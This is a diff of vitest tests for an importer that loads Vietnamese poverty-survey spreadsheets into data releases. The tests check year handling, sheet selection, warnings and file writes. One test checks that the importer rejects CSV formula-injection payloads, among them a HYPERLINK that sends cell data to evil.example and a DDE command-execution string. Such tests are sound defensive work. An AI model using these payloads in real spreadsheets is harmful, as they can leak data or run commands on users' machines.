@@ -6,6 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { loadSnapshot } from '../src/domain/export/snapshot.ts';
 import { observationsTable, tableCsv } from '../src/domain/export/tables.ts';
 import { importSpreadsheet, type ImportOptions } from '../src/domain/import/import.ts';
+import { nodeWriteOps, type WriteOps } from '../src/domain/release/write.ts';
 import { formatImportProblem } from '../src/domain/import/problems.ts';
 import { runCli } from '../scripts/cli/run.ts';
 import { main as importMain } from '../scripts/import.ts';
@@ -252,6 +253,137 @@ describe('what an import may touch', () => {
     expect(readFileSync(path.join(dataRoot, 'releases', DRAFT, 'observations.json'))).toEqual(
       readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'observations.json')),
     );
+  });
+});
+
+describe('importer without traps (issue 10)', () => {
+  const HEADER = 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n';
+
+  it('refuses a year outside the vintage\'s period, at its cell, naming the vintage to use', async () => {
+    const { dataRoot, run, messages } = setup();
+    const before = tree(dataRoot);
+    // 2025 figures filed under 2020-01 would attach to the old communes that share the codes
+    const result = await run(file('nam-sai.csv', HEADER + '10001,2025,1000,90,100\n'), { source: 'x' });
+    expect(result.ok).toBe(false);
+    expect(messages(result)).toEqual([
+      'dòng 2, cột "Năm" (B): năm 2025 nằm ngoài thời kỳ địa giới 2020-01 (01/01/2020–30/11/2024): mã đơn vị của năm đó thuộc thời kỳ khác, cùng một mã có thể là một đơn vị khác; số liệu năm 2025 nhập với --vintage 2025-07',
+    ]);
+    // the same with --year for the whole file: said once, not once a row
+    const whole = await run(file('nam-sai.csv', 'Mã đơn vị,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,1000,90,100\n10002,1000,90,100\n'), { source: 'x', year: 2025 });
+    expect(whole.problems.filter((p) => p.level === 'error').map((p) => [p.rule, p.row])).toEqual([['year-outside-vintage', undefined]]);
+    expect(tree(dataRoot)).toEqual(before);
+  });
+
+  it('reads the year from the sheet\'s title when there is no year column', async () => {
+    const { run, draftObservations, messages } = setup();
+    const sheet = xlsx({
+      rows: [['BIỂU TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2024'], ['Mã đơn vị', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ['10001', 1000, 100, 101], ['101', 2000, 200, 201]],
+    });
+    const result = await run(file('tieu-de.xlsx', sheet), { source: QD7 });
+    expect(messages(result)).toEqual([]);
+    expect(messages(result, 'notice')).toContain('trang tính "Sheet1", dòng 1: không có cột năm: năm 2024 lấy từ tiêu đề "BIỂU TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2024"');
+    expect(draftObservations().observations.find((o: any) => o.unit === '10001' && o.year === 2024)).toMatchObject({ nearPoor: 101 });
+    const none = await run(file('khong-nam.csv', 'Kết quả rà soát\nMã đơn vị,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,1000,100,101\n'), { source: QD7 });
+    expect(messages(none)).toEqual([expect.stringMatching(/Thiếu: năm .*ghi năm trong tiêu đề phía trên bảng \("… NĂM 2025"\) hoặc dùng --year 2025\.$/)]);
+  });
+
+  it('--sheet picks a worksheet; every message names the sheet read', async () => {
+    const { run, messages } = setup();
+    const book = xlsx({
+      sheets: [
+        { name: 'Hướng dẫn', rows: [['Điền số liệu ở trang sau']] },
+        { name: 'KQ 2024', rows: [['Mã đơn vị', 'Năm', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ['10001', 2024, 1000, '12,5', 101], ['10002', 2024, 1000, 100, 100]], merges: [] },
+      ],
+    });
+    const first = await run(file('hai-trang.xlsx', book), { source: QD7 });
+    expect(first.summary).toMatchObject({ sheet: 'Hướng dẫn', sheets: ['Hướng dẫn', 'KQ 2024'] });
+    expect(messages(first)[0]).toMatch(/^trang tính "Hướng dẫn": không tìm thấy dòng tiêu đề/);
+    const second = await run(file('hai-trang.xlsx', book), { source: QD7, sheet: 'KQ 2024' });
+    expect(second.summary.sheet).toBe('KQ 2024');
+    expect(messages(second)).toEqual([expect.stringMatching(/^trang tính "KQ 2024", dòng 2, cột "Số hộ nghèo" \(D\): "12,5" có dấu phẩy/)]);
+  });
+
+  it('summarises a warning repeated on many rows: "N mã bị Excel bỏ số 0 ở đầu"', async () => {
+    const { readRows } = await import('../src/domain/import/rows.ts');
+    const { SourceRegistry } = await import('../src/domain/import/sources.ts');
+    const { summariseRepeated } = await import('../src/domain/import/problems.ts');
+    const codes = ['05971', '05974', '05977', '05980', '05983'];
+    const vintage = { id: '2025-07', validFrom: '2025-07-01', validTo: null, units: codes.map((code) => ({ code, level: 'commune' as const, name: `X${code}`, type: 'xã' as const, parent: '20' })) };
+    const grid = { kind: 'csv' as const, merges: [], rows: [['Mã', 'Năm', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ...codes.map((c) => [Number(c), 2025, 1000, 10, 10])] };
+    const read = readRows(grid, { vintage, sources: new SourceRegistry([]), source: 'QĐ' });
+    expect(summariseRepeated(read.problems).filter((p) => p.level === 'warning').map(formatImportProblem)).toEqual([
+      '5 mã bị Excel bỏ số 0 ở đầu (các dòng 2–6), đã được hiểu đúng; nên định dạng cột mã là Văn bản (Text)',
+    ]);
+  });
+
+  it('sets the draft\'s title and notes from --title and --notes, on creation and after', async () => {
+    const { dataRoot, run } = setup();
+    const manifest = () => JSON.parse(readFileSync(path.join(dataRoot, 'releases', 'index.json'), 'utf8')).releases.find((r: any) => r.id === DRAFT);
+    await run(file('a.csv', awkwardCsv), { title: 'Kết quả rà soát năm 2024', notes: 'Sửa  số hộ xã Hoa Thám.' });
+    expect(manifest()).toMatchObject({ title: 'Kết quả rà soát năm 2024', notes: 'Sửa số hộ xã Hoa Thám.', status: 'draft' });
+    const again = await run(file('a.csv', awkwardCsv), { notes: 'Số liệu chính thức năm 2024.' });
+    expect(again.files).toEqual(['releases/index.json']);
+    expect(manifest()).toMatchObject({ title: 'Kết quả rà soát năm 2024', notes: 'Số liệu chính thức năm 2024.' });
+  });
+
+  it('rejects formula-like text in sources and names, at the cell or for the flag', async () => {
+    const { dataRoot, run, messages } = setup();
+    const before = tree(dataRoot);
+    const csv = 'Mã đơn vị,Tên đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo,Nguồn\n' +
+      `10001,Hoa Thám,2024,1000,100,101,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"\n` +
+      `101,@SUM(1+1),2024,2000,200,201,${QD7}\n`;
+    const result = await run(file('cong-thuc.csv', csv));
+    expect(messages(result)).toEqual([
+      expect.stringMatching(/^dòng 2, cột "Nguồn" \(G\): "=HYPERLINK\(.*" bắt đầu bằng "=": Excel sẽ hiểu ô như vậy là công thức/),
+      expect.stringMatching(/^dòng 3, cột "Tên đơn vị" \(B\): "@SUM\(1\+1\)" bắt đầu bằng "@"/),
+    ]);
+    await expect(run(file('a.csv', awkwardCsv), { source: "=cmd|' /C calc'!A0" })).rejects.toMatchObject({ kind: 'usage', message: expect.stringContaining('--source') });
+    expect(tree(dataRoot)).toEqual(before);
+  });
+
+  it('a draft made from a demo release starts without its synthetic records', async () => {
+    const { root, dataRoot } = writeMini((f) => {
+      f.manifest.releases[0].status = 'demo';
+      // the province's own 2021 figure has a derived (real) source; everything else in the mini release is synthetic
+    });
+    const result = await importSpreadsheet({
+      dataRoot, releaseId: DRAFT, vintage: '2025-07', file: file('xa.csv', HEADER + '20001,2025,3000,150,250\n20002,2025,2100,120,200\n'),
+      source: 'Quyết định số 83/QĐ-UBND ngày 15/01/2026', contentRoot: path.join(root, 'content'),
+    });
+    expect(result.problems.filter((p) => p.level === 'error')).toEqual([]);
+    expect(result.summary.fromDemo).toEqual({
+      kept: { observations: 1, classifications: 0, recognitions: 0 },
+      dropped: { observations: 27, classifications: 5, recognitions: 1, sources: 2 },
+    });
+    const draft = (name: string) => JSON.parse(readFileSync(path.join(dataRoot, 'releases', DRAFT, name), 'utf8'));
+    const obs = draft('observations.json');
+    expect(obs.observations.map((o: any) => `${o.vintage}/${o.unit}/${o.year}`)).toEqual(['2020-01/20/2021', '2025-07/20001/2025', '2025-07/20002/2025']);
+    expect(obs.sources.map((s: any) => s.kind)).toEqual(['derived', 'official']);
+    expect(draft('recognitions.json')).toEqual({ recognitions: [], sources: [] });
+    const units = draft('units.json');
+    expect(units.vintages.flatMap((v: any) => v.units).some((u: any) => u.classifications)).toBe(false);
+    // the 2020-01 vintage's basis is a synthetic source in this fixture: it stays, as it is referred to
+    expect(units.sources.map((s: any) => s.id)).toEqual(['s-phan-loai']);
+    expect(units.vintages.map((v: any) => v.units.length)).toEqual([7, 3]);
+    expect(draft('crosswalks.json')).toEqual(JSON.parse(readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'crosswalks.json'), 'utf8')));
+  });
+
+  it('writes through unique temporary files in the same folder and leaves none behind', async () => {
+    const { dataRoot, run } = setup();
+    await run(file('a.csv', awkwardCsv));
+    const temporaries: string[] = [];
+    const writeOps: WriteOps = {
+      writeNew: (f, bytes) => { temporaries.push(f); nodeWriteOps.writeNew(f, bytes); },
+      rename: nodeWriteOps.rename,
+    };
+    const result = await run(file('b.csv', awkwardCsv.replace('90;100', '90;101').replace('190;200', '190;201')), { writeOps, title: 'Bản nháp mới' });
+    expect(result.files).toEqual([`releases/${DRAFT}/observations.json`, 'releases/index.json']);
+    expect(temporaries).toHaveLength(2);
+    for (const [t, target] of temporaries.map((t, i) => [t, path.join(dataRoot, result.files[i]!)] as const)) {
+      expect(path.dirname(t)).toBe(path.dirname(target));
+      expect(path.basename(t)).toMatch(new RegExp(`^\\.${path.basename(target).replace('.', '\\.')}\\.${process.pid}-[0-9a-f]{8}\\.tmp$`));
+    }
+    expect(readdirSync(dataRoot, { recursive: true }).filter((f) => String(f).endsWith('.tmp'))).toEqual([]);
   });
 });
 
